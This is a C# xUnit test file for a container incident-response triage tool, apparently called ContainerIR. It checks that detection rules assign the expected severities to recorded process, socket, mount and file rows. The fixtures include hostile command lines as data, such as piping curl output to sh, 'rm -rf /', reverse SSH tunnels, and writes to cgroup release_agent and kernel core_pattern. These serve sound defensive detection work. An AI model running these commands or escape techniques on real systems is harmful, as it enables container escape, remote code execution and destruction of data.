using ContainerIR.Analyzers;
using ContainerIR.Analyzers.Sigma;
using ContainerIR.Tests.Bundles;
using ContainerIR.Tests.Some;
using Xunit;

namespace ContainerIR.Tests.Analyzers;

/// <summary>Rules whose happening the test machine cannot stage, or only with what its kernel forbids: rows recorded by hand, each beside its false positive.</summary>
public sealed class Triage_of_recorded_rows
{
    private const string Told = """{"process":{"noNewPrivileges":true,"capabilities":{"bounding":["CAP_CHOWN"]}},"linux":{"seccomp":{}}}""";

    [Theory]
    [InlineData("CIR-011", "critical", """{"pid":9,"comm":"sh","cmdline":["sh"],"exe":{"link":"/bin/sh"},"status":{"CapEff":"0000000000200001","CapPrm":"0","Seccomp":"2"}}""")]
    [InlineData("CIR-011", "", """{"pid":9,"comm":"sh","cmdline":["sh"],"exe":{"link":"/bin/sh"},"status":{"CapEff":"0000000000000001","CapPrm":"1","Seccomp":"2"}}""")]
    [InlineData("CIR-011", "", """{"pid":9,"comm":"sh","signs":["foreign-namespace:user"],"exe":{"link":"/bin/sh"},"status":{"CapEff":"0000003fffffffff","CapPrm":"1","Seccomp":"2"}}""")]
    [InlineData("CIR-012", "high", """{"pid":9,"comm":"sh","exe":{"link":"/bin/sh"},"status":{"Seccomp":"0"}}""")]
    [InlineData("CIR-012", "", """{"pid":9,"comm":"runc:[2:INIT]","cmdline":["runc","init"],"exe":{"link":"/"},"status":{"Seccomp":"0"}}""")]
    [InlineData("CIR-013", "critical", """{"pid":9,"signs":["host-namespace:mnt"],"exe":{"link":"/bin/sh"},"status":{"Seccomp":"2"}}""")]
    [InlineData("CIR-013", "info", """{"pid":9,"comm":"runc:[2:INIT]","cmdline":["runc","init"],"signs":["host-namespace:mnt"],"exe":{"link":"/"}}""")]
    [InlineData("CIR-014", "critical", """{"pid":9,"signs":["left-cgroup"],"exe":{"link":"/bin/sh"},"status":{"Seccomp":"2"}}""")]
    [InlineData("CIR-006", "info", """{"pid":9,"comm":"runc:[2:INIT]","cmdline":["runc","init"],"exe":{"link":"/memfd:runc_cloned:/proc/self/exe (deleted)","memory":true,"deleted":true}}""")]
    [InlineData("CIR-006", "critical", """{"pid":9,"comm":"x","cmdline":["runc","init"],"exe":{"link":"/memfd:runc_cloned:/proc/self/exe (deleted)","memory":true,"deleted":true}}""")]
    [InlineData("CIR-012", "high", """{"pid":9,"comm":"sh","exe":{"link":"/bin/sh"},"status":{"Seccomp":"2","NoNewPrivs":"0"}}""")]
    [InlineData("CIR-012", "", """{"pid":9,"comm":"sh","exe":{"link":"/bin/sh"},"status":{"Seccomp":"2","NoNewPrivs":"1"}}""")]
    [InlineData("CIR-013", "", """{"pid":9,"signs":["foreign-namespace:mnt"],"exe":{"link":"/bin/sh"},"status":{"Seccomp":"2"}}""")]
    [InlineData("CIR-014", "", """{"pid":9,"signs":["entered"],"exe":{"link":"/bin/sh"},"status":{"Seccomp":"2"}}""")]
    [InlineData("CIR-039", "high", """{"pid":9,"cmdline":["ssh","-f","-N","-R","2222:127.0.0.1:22","u@203.0.113.9"],"exe":{"link":"/tmp/ssh (deleted)","deleted":true}}""")]
    [InlineData("CIR-039", "low", """{"pid":9,"cmdline":["ssh","-N","-D","1080","u@203.0.113.9"],"exe":{"link":"/usr/bin/ssh"}}""")]
    [InlineData("CIR-039", "", """{"pid":9,"cmdline":["ssh","u@203.0.113.9","uptime"],"exe":{"link":"/usr/bin/ssh"}}""")]
    [InlineData("CIR-047", "medium", """{"pid":9,"exe":{"link":"/usr/bin/app"},"maps":{"rwx":[{"range":"7f0000000000-7f0000100000","perms":"rwxp"}]}}""")]
    [InlineData("CIR-047", "", """{"pid":9,"exe":{"link":"/usr/bin/java"},"maps":{"rwx":[{"range":"7f0000000000-7f0000100000","perms":"rwxp"}]}}""")]
    [InlineData("CIR-047", "", """{"pid":9,"exe":{"link":"/usr/bin/app"},"maps":{"rwx":[{"range":"7f0000000000-7f0000001000","perms":"rwxp"}]}}""")]
    [InlineData("CIR-047", "medium", """{"pid":9,"exe":{"link":"/usr/bin/app"},"maps":{"deleted":[{"range":"1000-2000","perms":"r-xp","path":"/tmp/x.so (deleted)"}]}}""")]
    [InlineData("CIR-061", "critical", """{"pid":9,"cmdline":["rm","-rf","/"],"exe":{"link":"/bin/rm"}}""")]
    [InlineData("CIR-061", "", """{"pid":9,"cmdline":["rm","-rf","/var/cache/x"],"exe":{"link":"/bin/rm"}}""")]
    [InlineData("CIR-044", "high", """{"pid":9,"cmdline":["/usr/sbin/sshd"],"exe":{"link":"/tmp/x"}}""")]
    [InlineData("CIR-044", "", """{"pid":9,"cmdline":["nginx: worker process"],"exe":{"link":"/usr/sbin/nginx"}}""")]
    [InlineData("CIR-050", "", """{"pid":9,"cmdline":["lsmod"],"exe":{"link":"/bin/busybox"}}""")]
    [InlineData("CIR-008", "", """{"pid":9,"ppid":8,"cmdline":["sh","-c","true"],"tty":0,"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-015", "high", """{"pid":9,"cmdline":["sh","-c","echo /x > /c/release_agent"],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-015", "", """{"pid":9,"cmdline":["grep","release_agent","/x"],"exe":{"link":"/bin/grep"}}""")]
    [InlineData("CIR-016", "high", """{"pid":9,"cmdline":["sh","-c","echo '|/x' > /proc/sys/kernel/core_pattern"],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-016", "", """{"pid":9,"cmdline":["cat","/proc/sys/kernel/core_pattern"],"exe":{"link":"/bin/cat"}}""")]
    [InlineData("CIR-037", "low", """{"pid":9,"cmdline":["nmap"],"exe":{"link":"/usr/bin/nmap"}}""")]
    [InlineData("CIR-038", "high", """{"pid":9,"cmdline":["sh","-c","curl -s http://x/y | sh"],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-038", "", """{"pid":9,"cmdline":["sh","-c","curl -s http://x/y | tee z; ls | sort"],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-048", "medium", """{"pid":9,"exe":{"link":"/bin/sh"},"status":{"TracerPid":"77"}}""")]
    [InlineData("CIR-048", "", """{"pid":9,"exe":{"link":"/bin/sh"},"status":{"TracerPid":"0"}}""")]
    [InlineData("CIR-050", "high", """{"pid":9,"cmdline":["insmod","x.ko"],"exe":{"link":"/bin/busybox"}}""")]
    [InlineData("CIR-058", "medium", """{"pid":9,"cmdline":["sh"],"tty":34816,"signs":["engine-exec"],"exe":{"link":"/bin/busybox"}}""")]
    [InlineData("CIR-058", "", """{"pid":9,"cmdline":["sh"],"tty":0,"signs":["engine-exec"],"exe":{"link":"/bin/busybox"}}""")]
    [InlineData("CIR-001", "critical", """{"pid":9,"cmdline":["grep","-o","stratum+tcp://x:1"],"exe":{"link":"/tmp/x (deleted)","deleted":true}}""")]
    public async Task Judges_a_process(string rule, string severity, string row) =>
        Assert.Equal(severity, SeverityOf(await SomeTriage.OfRowsAsync(row + "\n", specification: Told), rule));

    [Fact]
    public async Task Lowers_an_install_script_that_is_the_containers_own_command()
    {
        TriageReport report = await SomeTriage.OfRowsAsync(
            """{"pid":9,"nspid":[9,1],"cmdline":["sh","-c","curl -s http://x/y | sh"],"exe":{"link":"/bin/sh"}}""",
            inspect: """{"Path":"sh","Args":["-c","curl -s http://x/y | sh"]}""");
        Assert.Equal("low", SeverityOf(report, "CIR-038"));
    }

    [Theory]
    [InlineData("CIR-002", "high", "/tmp/x (deleted)", """{"protocol":"tcp","state":"ESTABLISHED","remote":"203.0.113.9","remote_port":3333,"peer":"public","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-039", "low", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"203.0.113.9","remote_port":9001,"peer":"public","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-039", "high", "/tmp/x (deleted)", """{"protocol":"tcp","state":"ESTABLISHED","remote":"203.0.113.9","remote_port":9001,"peer":"public","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-040", "high", "/tmp/x (deleted)", """{"protocol":"tcp","state":"LISTEN","local_port":9,"inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-002", "medium", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"203.0.113.9","remote_port":3333,"peer":"public","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-002", "", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"10.0.0.9","remote_port":3333,"peer":"private","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-041", "medium", "/bin/sh", """{"protocol":"tcp","state":"ESTABLISHED","remote":"203.0.113.9","remote_port":443,"peer":"public","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-041", "", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"203.0.113.9","remote_port":443,"peer":"public","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-042", "high", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"169.254.169.254","remote_port":80,"peer":"private","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-042", "", "/usr/bin/app", """{"protocol":"tcp","state":"ESTABLISHED","remote":"169.254.1.1","remote_port":80,"peer":"private","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-049", "medium", "/usr/bin/app", """{"protocol":"packet","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-049", "low", "/usr/bin/tcpdump", """{"protocol":"packet","inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-049", "", "/usr/bin/app", """{"protocol":"packet","inode":5,"owners":[{"pid":77,"member":false}]}""")]
    [InlineData("CIR-040", "low", "/usr/bin/nc", """{"protocol":"tcp","state":"LISTEN","local_port":9,"inode":5,"owners":[{"pid":9,"member":true}]}""")]
    [InlineData("CIR-040", "", "/usr/bin/app", """{"protocol":"tcp","state":"LISTEN","local_port":9,"inode":5,"owners":[{"pid":9,"member":true}]}""")]
    public async Task Judges_a_socket(string rule, string severity, string executable, string row) =>
        Assert.Equal(severity, SeverityOf(await SomeTriage.OfRowsAsync($$$"""{"pid":9,"cmdline":["x"],"exe":{"link":"{{{executable}}}","deleted":{{{(executable.EndsWith(')') ? "true" : "false")}}} }}""" + "\n", row + "\n"), rule));

    [Theory]
    [InlineData("CIR-010", "critical", """{"Config":{"WorkingDir":"/proc/self/fd/8"}}""")]
    [InlineData("CIR-010", "", """{"Config":{"WorkingDir":"/process/self/fd"}}""")]
    [InlineData("CIR-020", "high", """{"HostConfig":{"Privileged":true}}""")]
    [InlineData("CIR-020", "", """{"HostConfig":{"Privileged":false}}""")]
    [InlineData("CIR-021", "", """{"HostConfig":{"CapAdd":["NET_ADMIN","CHOWN"]}}""")]
    [InlineData("CIR-021", "high", """{"HostConfig":{"CapAdd":["NET_ADMIN"],"NetworkMode":"host"}}""")]
    [InlineData("CIR-018", "", """{"Mounts":[{"Type":"bind","Source":"/srv/app.sock","Destination":"/app.sock","RW":true}]}""")]
    [InlineData("CIR-023", "", """{"HostConfig":{"PidMode":"container:x","NetworkMode":"bridge"}}""")]
    [InlineData("CIR-024", "", """{"Path":"sh","Args":["-c","df"],"Mounts":[{"Type":"bind","Source":"/","Destination":"/host","RW":false}]}""")]
    [InlineData("CIR-018", "high", """{"Mounts":[{"Type":"bind","Source":"/var/run/docker.sock","Destination":"/d.sock","RW":true}]}""")]
    [InlineData("CIR-022", "high", """{"Mounts":[{"Type":"bind","Source":"/etc","Destination":"/e","RW":true}]}""")]
    [InlineData("CIR-022", "", """{"Mounts":[{"Type":"bind","Source":"/srv/app","Destination":"/e","RW":true}]}""")]
    [InlineData("CIR-043", "low", """{"Config":{"Env":["DB_PASSWORD=x"]}}""")]
    [InlineData("CIR-043", "", """{"Config":{"Env":["PATH=/bin","TOKENIZER=x","DB_PASSWORD="]}}""")]
    [InlineData("CIR-062", "info", """{"RestartCount":50}""")]
    [InlineData("CIR-062", "", """{"RestartCount":2}""")]
    public async Task Judges_a_configuration(string rule, string severity, string inspect) =>
        Assert.Equal(severity, SeverityOf(await SomeTriage.OfRowsAsync(inspect: inspect), rule));

    [Theory]
    [InlineData("CIR-009", "critical", "mounts/mounts.jsonl", """{"mnt_namespace":7,"mount_id":5,"origin":"root","type":"overlay"}""", """{"pid":9,"namespaces":{"mnt":7},"fds":[{"fd":3,"target":"/etc","mnt_id":27}],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-009", "critical", "mounts/mounts.jsonl", """{"mnt_namespace":7,"mount_id":5,"origin":"root","type":"overlay"}""", """{"pid":9,"namespaces":{"mnt":7},"cwd":"/etc","cwd_mnt_id":27,"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-009", "", "mounts/mounts.jsonl", """{"mnt_namespace":7,"mount_id":5,"origin":"root","type":"overlay"}""", """{"pid":9,"namespaces":{"mnt":7},"fds":[{"fd":0,"target":"/dev/pts/0","mnt_id":27},{"fd":3,"target":"/etc","mnt_id":5},{"fd":4,"target":"pipe:[5]","mnt_id":15},{"fd":5,"target":"/secretmem (deleted)","mnt_id":16},{"fd":6,"target":"/dmabuf:gpu","mnt_id":17}],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-009", "low", "mounts/mounts.jsonl", """{"mnt_namespace":7,"mount_id":5,"origin":"root","type":"overlay"}""", """{"pid":9,"signs":["entered"],"namespaces":{"mnt":7},"fds":[{"fd":3,"target":"/etc","mnt_id":27}],"exe":{"link":"/usr/bin/nsenter"}}""")]
    [InlineData("CIR-009", "", "mounts/mounts.jsonl", """{"mnt_namespace":8,"mount_id":5,"origin":"root","type":"overlay"}""", """{"pid":9,"namespaces":{"mnt":7},"fds":[{"fd":3,"target":"/etc","mnt_id":27}],"exe":{"link":"/bin/sh"}}""")]
    [InlineData("CIR-003", "medium", "host/host.json", """{"clock":{"boottime_ns":100000000000}}""", """{"pid":9,"user_ticks":8000,"system_ticks":500,"start_ticks":10,"exe":{"link":"/tmp/x (deleted)","deleted":true}}""")]
    [InlineData("CIR-003", "", "host/host.json", """{"clock":{"boottime_ns":100000000000}}""", """{"pid":9,"user_ticks":8000,"system_ticks":500,"start_ticks":10,"exe":{"link":"/usr/bin/batch"}}""")]
    [InlineData("CIR-003", "", "host/host.json", """{"clock":{"boottime_ns":100000000000}}""", """{"pid":9,"user_ticks":800,"start_ticks":10,"exe":{"link":"/tmp/x (deleted)","deleted":true}}""")]
    [InlineData("CIR-015", "critical", "mounts/mounts.jsonl", """{"mnt_namespace":7,"mount_id":5,"origin":"not-configured","type":"cgroup","options":"rw,relatime","mount_point":"/tmp/c"}""")]
    [InlineData("CIR-015", "", "mounts/mounts.jsonl", """{"mnt_namespace":7,"mount_id":5,"origin":"engine","type":"cgroup","options":"ro,nosuid","mount_point":"/sys/fs/cgroup/memory"}""")]
    [InlineData("CIR-016", "critical", "host/host.json", """{"kernel_helpers":{"core_pattern":"|/var/lib/docker/overlay2/abc/diff/x %P"}}""")]
    [InlineData("CIR-016", "", "host/host.json", """{"kernel_helpers":{"core_pattern":"|/usr/share/apport/apport -p%p","modprobe":"/sbin/modprobe","uevent_helper":""}}""")]
    [InlineData("CIR-016", "", "host/host.json", """{"kernel_helpers":{"core_pattern":"|/usr/lib/systemd/systemd-coredump %P","modprobe":"/sbin/modprobe"}}""")]
    [InlineData("CIR-017", "critical", "host-context/engine.json", """{"programs":[{"path":"/usr/sbin/runc","state":"CHANGED: not the file of its package","sha256":"00","package":"runc"}]}""")]
    [InlineData("CIR-017", "", "host-context/engine.json", """{"programs":[{"path":"/usr/sbin/runc","state":"as packaged"},{"path":"/usr/local/bin/runc","state":"of no package that dpkg knows"}]}""")]
    [InlineData("CIR-025", "critical", "host-context/engine.json", """{"listeners":["unix /run/docker.sock","tcp 0.0.0.0:2375"],"tls":false}""")]
    [InlineData("CIR-025", "", "host-context/engine.json", """{"listeners":["unix /run/docker.sock","tcp 0.0.0.0:2376"],"tls":true}""")]
    [InlineData("CIR-025", "medium", "host-context/engine.json", """{"listeners":["tcp 127.0.0.1:2375"],"tls":false}""")]
    [InlineData("CIR-051", "critical", "processes/membership.json", """{"unlisted":[77]}""")]
    [InlineData("CIR-051", "", "processes/membership.json", """{"unlisted":[]}""")]
    [InlineData("CIR-057", "medium", "network/firewall.jsonl.zst", """{"side":"container","kind":"rule","family":"ip","table":"filter","chain":"OUTPUT","text":"daddr 203.0.113.9 drop"}""")]
    [InlineData("CIR-057", "", "network/firewall.jsonl.zst", """{"side":"container","kind":"rule","family":"ip","table":"nat","chain":"DOCKER_OUTPUT","text":"dnat 127.0.0.11:4000"}""")]
    [InlineData("CIR-057", "", "network/firewall.jsonl.zst", """{"side":"host","kind":"rule","family":"ip","table":"filter","chain":"FORWARD","text":"drop"}""")]
    [InlineData("CIR-057", "medium", "network/namespaces.json", """{"name_resolution":[{"file":"etc/hosts","content":"127.0.0.1 localhost\n0.0.0.0 updates.vendor.example","content_b64":"MTI3LjAuMC4xIGxvY2FsaG9zdAowLjAuMC4wIHVwZGF0ZXMudmVuZG9yLmV4YW1wbGU="}]}""")]
    [InlineData("CIR-057", "", "network/namespaces.json", """{"name_resolution":[{"file":"etc/hosts","content":"127.0.0.1 localhost localhost.localdomain"}]}""")]
    [InlineData("CIR-059", "medium", "image/image.json", """{"created":"2026-11-22T10:00:00Z","repository_digests":[],"name_still_points_here":true}""", "", """{"history":[{"created_by":"/bin/sh -c #(nop) CMD"},{"created_by":"sleep 1000"}]}""")]
    [InlineData("CIR-059", "info", "image/image.json", """{"created":"2026-11-22T10:00:00Z","repository_digests":[],"name_still_points_here":true}""", "", """{"history":[{"created_by":"/bin/sh -c #(nop) CMD"}]}""")]
    [InlineData("CIR-059", "", "image/image.json", """{"created":"2026-11-22T10:00:00Z","repository_digests":["app@sha256:1"],"name_still_points_here":true}""", "", """{"history":[{"created_by":"sleep 1000"}]}""")]
    [InlineData("CIR-060", "low", "image/image.json", """{"repository_digests":["app@sha256:1"],"name_still_points_here":false}""")]
    [InlineData("CIR-060", "", "image/image.json", """{"repository_digests":["app@sha256:1"],"name_still_points_here":true}""")]
    public async Task Judges_a_document(string rule, string severity, string item, string text, string process = "", string config = "")
    {
        using TemporaryFolder folder = new();
        const string inspect = """{"Created":"2026-11-22T11:00:00Z","Image":"sha256:00","Config":{"Image":"app:1"}}""";
        (string, string)[] others = config.Length > 0 ? [(item, text), ("image/image-config.json", config)] : [(item, text)];
        string bundle = await SomeTriage.BundleAsync(folder, process, inspect: inspect, others: others);
        Assert.Equal(severity, SeverityOf(Triage.Run(bundle, CancellationToken.None), rule));
    }

    [Theory]
    [InlineData("CIR-019", "critical", "/run/docker.sock")]
    [InlineData("CIR-019", "", "/run/app.sock")]
    public async Task Joins_a_unix_socket_with_the_engines(string rule, string severity, string name)
    {
        TriageReport report = await SomeTriage.OfRowsAsync(
            """{"pid":9,"cmdline":["x"],"exe":{"link":"/usr/bin/app"}}""",
            $$"""
            {"protocol":"unix","state":"ESTABLISHED","inode":5,"peer_inode":6,"owners":[{"pid":9,"member":true}]}
            {"protocol":"unix","state":"ESTABLISHED","inode":6,"peer_inode":5,"name":"{{name}}","host_side":true,"owners":[{"pid":1,"member":false}]}
            """);
        Assert.Equal(severity, SeverityOf(report, rule));
    }

    [Theory]
    [InlineData("CIR-052", "medium", "{}")]
    [InlineData("CIR-052", "", """{"Config":{"Env":["HISTFILE=/dev/null"]}}""")]
    public async Task Passes_over_an_environment_the_image_sets(string rule, string severity, string inspect) =>
        Assert.Equal(severity, SeverityOf(await SomeTriage.OfRowsAsync("""{"pid":9,"environ":["HISTFILE=/dev/null"],"exe":{"link":"/bin/sh"}}""", inspect: inspect), rule));

    [Theory]
    [InlineData("CIR-055", "high", "immutable", "added")]
    [InlineData("CIR-055", "high", "append-only", "modified")]
    [InlineData("CIR-055", "high", "immutable", "touched")]
    [InlineData("CIR-055", "high", "immutable", "metadata-only")]
    public async Task Sees_what_cannot_be_removed(string rule, string severity, string attribute, string verdict) => Assert.Equal(
        severity,
        SeverityOf(
            await SomeTriage.OfRowsAsync(entries: Entry("/etc/x").Replace("\"ino\":5", $"\"ino\":5,\"attributes\":[\"{attribute}\"]", StringComparison.Ordinal).Replace("\"added\"", $"\"{verdict}\"", StringComparison.Ordinal)),
            rule));

    [Theory]
    [InlineData("CIR-060", "medium", "sha256:00")]
    [InlineData("CIR-060", "", "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")]
    public async Task Compares_the_image_with_the_recorded_one(string rule, string severity, string running)
    {
        Expectations expected = new() { Allowed = AllowList.Parse(System.Text.Encoding.UTF8.GetBytes($$"""{"schema":"containerir-allow/1","known_images":{"app:1":"sha256:{{new string('a', 64)}}"} }"""), "x") };
        TriageReport report = await SomeTriage.OfRowsAsync(
            inspect: $$"""{"Image":"{{running}}","Config":{"Image":"app:1"} }""", other: ("image/image.json", """{"repository_digests":[],"name_still_points_here":false}"""), expected: expected);
        Assert.Equal(severity, SeverityOf(report, rule));
    }

    [Theory]
    [InlineData("CIR-005", "low", "other", true)]
    [InlineData("CIR-005", "high", "other", false)]
    [InlineData("CIR-005", "high", "missing", true)]
    public async Task Tells_an_upgrade_from_a_deleted_program(string rule, string severity, string pathNow, bool hasPackageChange)
    {
        TriageReport report = await SomeTriage.OfRowsAsync(
            $$$"""{"pid":9,"cmdline":["app"],"exe":{"link":"/usr/bin/app (deleted)","deleted":true,"path_now":"{{{pathNow}}}"}}""",
            entries: hasPackageChange ? Entry("/var/lib/dpkg/status") : "");
        Assert.Equal(severity, SeverityOf(report, rule));
    }

    [Theory]
    [InlineData("CIR-029", "low", "/root/.ssh/authorized_keys", 105)]
    [InlineData("CIR-029", "high", "/root/.ssh/authorized_keys", 500)]
    [InlineData("CIR-029", "high", "/root/.ssh/authorized_keys", 50)]
    [InlineData("CIR-034", "low", "/var/www/cache.php", 105)]
    [InlineData("CIR-034", "medium", "/var/www/cache.php", 500)]
    [InlineData("CIR-026", "critical", "/etc/ld.so.preload", 500)]
    [InlineData("CIR-031", "critical", "/etc/pam.d/sshd", 500)]
    [InlineData("CIR-032", "high", "/etc/cron.d/x", 500)]
    [InlineData("CIR-050", "high", "/opt/x.ko", 500)]
    [InlineData("CIR-036", "low", "/var/lib/dpkg/status", 500)]
    [InlineData("CIR-036", "", "/var/lib/dpkg/status-old", 500)]
    [InlineData("CIR-055", "", "/etc/x", 500)]
    [InlineData("CIR-061", "low", "/srv/HOW_TO_DECRYPT.txt", 500)]
    [InlineData("CIR-061", "", "/srv/readme.txt", 500)]
    [InlineData("CIR-035", "low", "/start.sh", 105)]
    [InlineData("CIR-026", "", "/etc/ld.so.conf", 500)]
    [InlineData("CIR-031", "", "/etc/pam.conf.d/x", 500)]
    [InlineData("CIR-050", "", "/opt/x.kot", 500)]
    [InlineData("CIR-056", "", "/usr/bin/falco", 500)]
    [InlineData("CIR-054", "", "/usr/bin/x", 500)]
    public async Task Judges_a_changed_file_by_when_it_was_written(string rule, string severity, string path, int changedAt)
    {
        TriageReport report = await SomeTriage.OfRowsAsync(entries: Entry(path, changedAt), inspect: """{"State":{"StartedAt":"1970-01-01T00:01:40Z"},"Config":{"Entrypoint":["/start.sh"]}}""");
        Assert.Equal(severity, SeverityOf(report, rule));
    }

    [Fact]
    public async Task Keeps_the_exact_bytes_of_a_hostile_name()
    {
        byte[] name = [.. "/root/.ssh/\u001b[2J"u8, 0xff, .. "/authorized_keys"u8];
        TriageReport report = await SomeTriage.OfRowsAsync(entries: $$"""{"path_b64":"{{Convert.ToBase64String(name)}}","kind":"file","verdict":"added","mode":"644","size":1,"ino":5}""");

        SeenValue path = Assert.Single(report.Findings, finding => finding.Rule.Id == "CIR-029").Seen[0];
        Assert.Equal(name, path.Exact);
        Assert.DoesNotContain('\u001b', path.Text);
    }

    [Fact]
    public async Task Says_what_it_could_not_examine()
    {
        TriageReport report = await SomeTriage.OfRowsAsync("this is no row\n");
        Assert.Contains(report.NotExamined, what => what.Contains("1 lines are no rows", StringComparison.Ordinal));

        using TemporaryFolder folder = new();
        string empty = (await SomeBundle.SmallAsync(folder)).Path;
        Assert.Contains(Triage.Run(empty, CancellationToken.None).NotExamined, what => what.StartsWith("processes/", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Gives_the_same_document_for_the_same_bytes()
    {
        using TemporaryFolder folder = new();
        string bundle = await SomeTriage.BundleAsync(
            folder, """{"pid":9,"cmdline":["x","stratum+tcp://x:1"],"exe":{"link":"/tmp/.x/y (deleted)","deleted":true}}""",
            entries: string.Concat(Enumerable.Range(0, 200).Select(number => Entry($"/tmp/.y/{number}"))), inspect: """{"HostConfig":{"Privileged":true,"PidMode":"host","CapAdd":["SYS_ADMIN","BPF"]}}""");

        string first = Document(Triage.Run(bundle, CancellationToken.None));
        Assert.Contains("CIR-045", first, StringComparison.Ordinal);
        Assert.Equal(first, Document(Triage.Run(bundle, CancellationToken.None)));
    }

    private static string Document(TriageReport report)
    {
        using MemoryStream bytes = new();
        using (System.Text.Json.Utf8JsonWriter json = new(bytes))
        {
            report.Write(json);
        }

        return System.Text.Encoding.UTF8.GetString(bytes.ToArray());
    }

    [Fact]
    public async Task Gives_the_same_findings_for_the_same_bytes_and_bounds_those_of_one_rule()
    {
        string rows = string.Concat(Enumerable.Range(1, 80).Select(pid => $$$"""{"pid":{{{pid}}},"signs":["left-cgroup"],"exe":{"link":"/bin/sh"}}""" + "\n"));
        TriageReport first = await SomeTriage.OfRowsAsync(rows), second = await SomeTriage.OfRowsAsync(rows);

        Assert.Equal(50, first.Findings.Count);
        Assert.Equal(30, first.LeftOut["CIR-014"]);
        Assert.Equal(first.Findings.Select(finding => finding.Where), second.Findings.Select(finding => finding.Where));
        Assert.Equal(40, first.Score);
    }

    private static string Entry(string path, int changedAt = 500) =>
        $$"""{"path_b64":"{{Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(path))}}","kind":"file","verdict":"added","mode":"755","size":9,"ino":5,"ctime":"{{changedAt}}","mtime":"{{changedAt}}"}""" + "\n";

    private static string SeverityOf(TriageReport report, string rule) =>
        report.Findings.FirstOrDefault(finding => finding.Rule.Id == rule)?.Severity.ToString().ToLowerInvariant() ?? "";
}

/// <summary>The lists of analyzers and rules.</summary>
public sealed class The_list_of_analyzers
{
    [Fact]
    public void Names_every_analyzer_file()
    {
        string folder = Path.Combine(Repository.Root, "src", "ContainerIR", "Analyzers");
        string list = File.ReadAllText(Path.Combine(folder, "AnalyzerList.cs"));
        Assert.DoesNotContain(
            Directory.EnumerateFiles(folder, "*Analyzer.cs").Select(file => Path.GetFileNameWithoutExtension(file)!).Where(name => name != nameof(IAnalyzer)),
            name => !list.Contains($"new {name}(", StringComparison.Ordinal));
    }

    /// <summary>Recorded rows give the severity in their second argument ("" for none); staged containers name "RULE severity", or a rule that must be silent.</summary>
    [Fact]
    public void Has_for_each_rule_a_test_that_it_fires_and_one_that_it_does_not_on_what_looks_alike()
    {
        List<(string Rule, string Severity)> proofs =
        [
            .. DataOf(typeof(Triage_of_recorded_rows)).Where(data => data is [string rule, string, ..] && rule.StartsWith("CIR-", StringComparison.Ordinal)).Select(data => ((string)data[0]!, (string)data[1]!)),
            .. DataOf(typeof(Triage_of_a_container)).SelectMany(data => data.Skip(1)).SelectMany(each => each is string[] many ? many : each is string one ? [one] : [])
                .Select(each => each.Split(' ')).Select(each => (each[0], each.Length > 1 ? each[1] : "")),
        ];
        string[] unproven =
        [
            .. RuleList.All.Where(rule => !proofs.Contains((rule.Id, Word(rule.Severity)))).Select(rule => $"{rule.Id} fires at {Word(rule.Severity)}"),
            .. RuleList.All.Where(rule => !proofs.Any(proof => proof.Rule == rule.Id && (proof.Severity.Length == 0 || Enum.Parse<Severity>(proof.Severity, ignoreCase: true) < rule.Severity))).Select(rule => $"{rule.Id} is silent or lower"),
        ];
        Assert.Empty(unproven);
        Assert.Equal(62, RuleList.All.Count);
    }

    private static string Word(Severity severity) => severity.ToString().ToLowerInvariant();

    private static IEnumerable<object?[]> DataOf(Type type) =>
        type.GetMethods().SelectMany(method => method.GetCustomAttributes(typeof(InlineDataAttribute), false).Cast<InlineDataAttribute>().Select(each => each.Data));

    [Fact]
    public void Has_each_rule_once_in_order_in_the_document_and_in_the_code()
    {
        string document = File.ReadAllText(Path.Combine(Repository.Root, "docs", "triage.md"));
        string folder = Path.Combine(Repository.Root, "src", "ContainerIR", "Analyzers");
        string code = string.Concat(Directory.EnumerateFiles(folder, "*Analyzer.cs").Select(File.ReadAllText).Concat(SigmaRuleSet.Own.Rules.Select(rule => $"\"{rule.Meaning.Id}\"")));
        Assert.Equal(RuleList.All.Select(rule => rule.Id).Distinct().Order(StringComparer.Ordinal), RuleList.All.Select(rule => rule.Id));
        Assert.All(RuleList.All, rule => Assert.Contains($"| {rule.Id} | {rule.Severity.ToString().ToLowerInvariant()} |", document, StringComparison.Ordinal));
        Assert.All(RuleList.All, rule => Assert.Contains($"\"{rule.Id}\"", code, StringComparison.Ordinal));
    }
}
